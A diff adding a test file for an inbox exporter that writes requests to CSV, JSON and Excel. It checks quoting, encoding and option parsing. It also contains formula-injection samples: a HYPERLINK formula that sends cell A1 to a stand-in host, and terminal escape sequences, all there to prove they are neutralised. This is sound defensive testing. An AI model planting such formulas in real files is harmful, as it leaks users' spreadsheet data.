@@ -1,0 +1,274 @@
+import { readXlsx } from 'hucre/xlsx';
+import { describe, expect, test } from 'vitest';
+import type { TableRequest } from '#lib/inbox/export-table.ts';
+import { words } from '#src/brand.ts';
+import { parseArguments } from '../arguments.ts';
+import type { OpenedRequest } from '../decrypter.ts';
+import { UsageError } from '../usage-error.ts';
+import { exportCsv, exportJson, exportXlsx, parseExportOptions, toTableRequest } from './export.ts';
+
+const stored: OpenedRequest = {
+  reference: 'VR-7K3Q-9F2M',
+  dedupe_key: 'the key',
+  content_hash: 'a hash',
+  name: 'Ada Byron',
+  email: 'ada@example.com',
+  phone: '+44 20 7946 0018',
+  company: '',
+  service_interest: 'luxury-travel',
+  message: 'Two weeks in June.',
+  language: 'ja',
+  received_at: '2026-03-06T21:30:00.000Z',
+  answered_at: null,
+  reply_by: '2026-03-09T13:30:00.000Z',
+  text_fingerprint: null,
+  remind_at: null,
+  doubts: null,
+  cleared_at: null,
+  taken_by: null,
+  taken_at: null,
+  answered_by: null,
+  sealed_with: null,
+  sender_trace: null,
+  sealed: null,
+  failure: undefined,
+};
+
+const header = [
+  ...['reference', 'receivedAt', 'replyBy', 'takenBy', 'takenAt', 'answeredBy', 'answeredAt'],
+  ...['name', 'email', 'phone', 'company', 'serviceInterest', 'message', 'language', 'doubtful', 'sealed'],
+];
+
+async function* rowsOf(changes: readonly Partial<OpenedRequest>[]) {
+  for (const change of changes) yield toTableRequest({ ...stored, ...change }, words);
+}
+
+const exported = async (
+  as: (rows: AsyncIterable<TableRequest>) => AsyncIterable<string>,
+  changes: readonly Partial<OpenedRequest>[],
+) => (await Array.fromAsync(as(rowsOf(changes)))).join('');
+
+/** Reads CSV as RFC 4180 has it: records of cells. Fails on what it does not allow. */
+function parsedCsv(text: string): string[][] {
+  const records: string[][] = [[]];
+  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y;
+  while (cell.lastIndex < text.length) {
+    const at = cell.lastIndex;
+    const [, quoted, plain = '', end] = cell.exec(text) ?? [];
+    if (end === undefined) throw new Error(`no cell at ${at}: ${JSON.stringify(text.slice(at, at + 20))}`);
+    records.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain);
+    if (end !== ',') records.push([]);
+  }
+  return records.slice(0, -1);
+}
+
+/** The cells of CSV by their header, and by the header's first bytes whether spreadsheets read it as UTF-8. */
+async function csvOf(changes: readonly Partial<OpenedRequest>[]): Promise<Record<string, string>[]> {
+  const text = await exported(exportCsv, changes);
+  expect(Buffer.from(text).subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
+  const [names = [], ...records] = parsedCsv(text.slice(1));
+  expect(names).toEqual(header);
+  for (const record of records) expect(record).toHaveLength(header.length);
+  return records.map((record) => Object.fromEntries(names.map((name, i) => [name, record[i] ?? ''])));
+}
+
+const jsonOf = async (changes: readonly Partial<OpenedRequest>[]) =>
+  JSON.parse(await exported(exportJson, changes));
+
+const answered: Partial<OpenedRequest> = {
+  taken_by: 'MB',
+  taken_at: '2026-03-09T13:01:00.000Z',
+  answered_by: 'KL',
+  answered_at: '2026-03-09T13:12:00.000Z',
+};
+
+describe('CSV', () => {
+  test('has a header, and a line for each request, with the service by its label', async () => {
+    expect(await csvOf([])).toEqual([]);
+    expect(await csvOf([answered, { service_interest: '' }, { service_interest: 'yachts' }])).toMatchObject([
+      {
+        reference: 'VR-7K3Q-9F2M',
+        receivedAt: '2026-03-06T21:30:00.000Z',
+        replyBy: '2026-03-09T13:30:00.000Z',
+        takenBy: 'MB',
+        takenAt: '2026-03-09T13:01:00.000Z',
+        answeredBy: 'KL',
+        answeredAt: '2026-03-09T13:12:00.000Z',
+        name: 'Ada Byron',
+        serviceInterest: 'Luxury Travel Curation',
+        doubtful: '',
+      },
+      { takenBy: '', answeredAt: '', serviceInterest: '' },
+      { serviceInterest: 'yachts' },
+    ]);
+  });
+
+  test.each(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'])(
+    'a cell that begins with %j is no formula in any column of the visitor’s',
+    async (first) => {
+      const text = `${first}HYPERLINK("https://x.example?"&A1,"x")`;
+      const [request] = await csvOf([
+        { name: text, email: text, phone: text, company: text, message: text, answered_by: text },
+      ]);
+      for (const column of ['name', 'email', 'phone', 'company', 'message', 'answeredBy'])
+        expect(request?.[column]).toBe(`'${text}`);
+    },
+  );
+
+  test.each([
+    'He said "yes", twice: ""',
+    'Please call me\nSecond line',
+    'a lone carriage return\rSecond line',
+    'both\r\nSecond line',
+    'one\ntwo\r\nthree\rfour',
+    ',;,"\n"',
+    'a "=1+1" in the middle, -5',
+    'Hélène, נורה, 健一 🌙',
+    ' = after a space',
+  ])('%j comes back as it was', async (message) => {
+    expect(await csvOf([{ message }, {}])).toMatchObject([{ message }, { message: stored.message }]);
+  });
+
+  test.each([
+    [';=1+1', ";'=1+1"],
+    ['text;"=1+1"', `text;'"=1+1"`],
+    ['a;-1;+2;@x', "a;'-1;'+2;'@x"],
+    ['first\n=1+1\r\n@x\r-1', "first\n'=1+1\r\n'@x\r'-1"],
+    ['tab\t=1+1', "tab\t'=1+1"],
+  ])('%j begins no formula where cells end at semicolons, tabs or lines', async (message, kept) => {
+    expect(await csvOf([{ message }])).toMatchObject([{ message: kept }]);
+  });
+
+  test.each(['0049170123456', '020 7946 0018', '12345678901234567890', '1e5', '12/24'])(
+    'the telephone number %s stays text in a spreadsheet',
+    async (phone) => {
+      expect(await csvOf([{ phone }])).toMatchObject([{ phone: `'${phone}` }]);
+    },
+  );
+
+  test('reasons for doubt are told until somebody clears them', async () => {
+    const doubts = '["links","quick"]';
+    expect(await csvOf([{ doubts }, { doubts, cleared_at: stored.received_at }])).toMatchObject([
+      { doubtful: 'links, quick' },
+      { doubtful: '' },
+    ]);
+  });
+});
+
+describe('JSON', () => {
+  test('is an array, of none, one or many', async () => {
+    for (const many of [0, 1, 3]) expect(await jsonOf(Array(many).fill({}))).toHaveLength(many);
+  });
+
+  test('has the columns of CSV, and nothing technical', async () => {
+    const [request] = await jsonOf([answered]);
+    expect(Object.keys(request)).toEqual(header);
+    expect(JSON.stringify(request)).not.toMatch(/hash|the key/);
+  });
+
+  test('values are as they were written, and what there is not is null', async () => {
+    const message = '=1+1\t"quoted"\r\n＝ \u2028';
+    expect(await jsonOf([{ message, doubts: '["links"]' }])).toMatchObject([
+      { phone: '+44 20 7946 0018', message, answeredAt: null, doubtful: ['links'] },
+    ]);
+  });
+});
+
+describe('controls of a terminal', () => {
+  const message = '\u001b[2J\u0007\u009b1m\u202eesrever\tafter\n\u{1f469}\u200d\u{1f373}';
+
+  test('are written as code points in a cell, beside what belongs to a text', async () => {
+    const shown = '\\u{1b}[2J\\u{7}\\u{9b}1m\\u{202e}esrever\tafter\n\u{1f469}\u200d\u{1f373}';
+    expect(await csvOf([{ message, name: message }])).toMatchObject([{ message: shown, name: shown }]);
+  });
+
+  test('are escaped in JSON, which keeps them', async () => {
+    const text = await exported(exportJson, [{ message, name: message }]);
+    expect(text).not.toMatch(/[\p{Cc}--\n]|\u202e/v);
+    expect(JSON.parse(text)).toMatchObject([{ message, name: message }]);
+  });
+});
+
+describe('a workbook', () => {
+  const workbookOf = async (changes: readonly Partial<OpenedRequest>[]) => {
+    const { sheets } = await readXlsx(Buffer.concat(await Array.fromAsync(exportXlsx(rowsOf(changes)))));
+    return sheets.map(({ name, rows }) => ({ name, rows }));
+  };
+
+  test('has one sheet with the columns of CSV', async () => {
+    expect(await workbookOf([])).toEqual([{ name: 'Requests', rows: [header] }]);
+    const [sheet] = await workbookOf([answered, {}]);
+    expect(sheet?.rows).toHaveLength(3);
+    expect(sheet?.rows[1]).toEqual(expect.arrayContaining(['VR-7K3Q-9F2M', 'KL', 'Luxury Travel Curation']));
+  });
+
+  test.each([
+    '=1+1',
+    '@SUM(1)',
+    '-5',
+    '0049170123456',
+    '12345678901234567890',
+    '1e5',
+    '2026-03-09',
+    'TRUE',
+    'Please call me\nSecond line; =1+1\n=2',
+    '_x003D_1+1',
+    'נורה <健一> & "🌙"',
+  ])('%j is text, as it was written', async (text) => {
+    const [sheet] = await workbookOf([{ name: text, phone: text, message: text }]);
+    const row = Object.fromEntries(header.map((name, index) => [name, sheet?.rows[1]?.[index]]));
+    expect(row).toMatchObject({ name: text, phone: text, message: text });
+  });
+
+  test('has no controls, and no more in a cell than Excel takes', async () => {
+    const [sheet] = await workbookOf([{ name: 'a\u0000\u001bb', message: '🌙'.repeat(20_000) }]);
+    const [name, message] = ['name', 'message'].map((column) => sheet?.rows[1]?.[header.indexOf(column)]);
+    expect(name).toBe('a\\u{0}\\u{1b}b');
+    expect(message).toHaveLength(32_767);
+    expect(message).toMatch(/🌙\P{Surrogate}?…$/u);
+  });
+});
+
+test.each([exportCsv, exportJson])('%o passes each request on before it asks for the next', async (as) => {
+  let asked = 0;
+  async function* rows() {
+    for (; asked < 3; asked += 1) yield toTableRequest(stored, words);
+  }
+  const pieces = as(rows());
+  const written: string[] = [];
+  for await (const piece of pieces) {
+    written.push(piece);
+    if (piece.includes(stored.reference)) break;
+  }
+  expect(written.join('')).toContain(stored.reference);
+  expect(asked).toBe(0);
+});
+
+describe('the options', () => {
+  const read = (typed: string) =>
+    parseExportOptions(parseArguments('export', typed.split(' ').filter(Boolean)).options);
+
+  test.each([
+    ['', { format: 'csv', since: undefined, output: undefined }],
+    ['--format json --since 2026-03-09', { format: 'json', since: new Date('2026-03-09T00:00:00Z') }],
+    ['--since=2028-02-29 --format=csv', { format: 'csv', since: new Date('2028-02-29T00:00:00Z') }],
+    ['--output a.xlsx --format xlsx', { format: 'xlsx', output: 'a.xlsx' }],
+  ])('%s', (typed, meant) => {
+    expect(read(typed)).toMatchObject(meant);
+  });
+
+  test.each([
+    ['--format ods', /“ods” is no format/],
+    ['--output', /--output FILE/],
+    ['--since yesterday', /“yesterday” is no date/],
+    ['--since 2026-03-09T10:00', /is no date/],
+    ['--since 2026-02-30', /“2026-02-30” is no date/],
+    ['--since 03/09/2026', /is no date: give one such as/],
+    ['--until 2026-03-09', /is typed as/],
+    ['json', /is typed as/],
+    ['--format \u001b[2J', /“\\u\{1b\}\[2J” is no format/],
+  ])('%j is answered in a sentence', (typed, sentence) => {
+    expect(() => read(typed)).toThrow(UsageError);
+    expect(() => read(typed)).toThrow(sentence);
+  });
+});
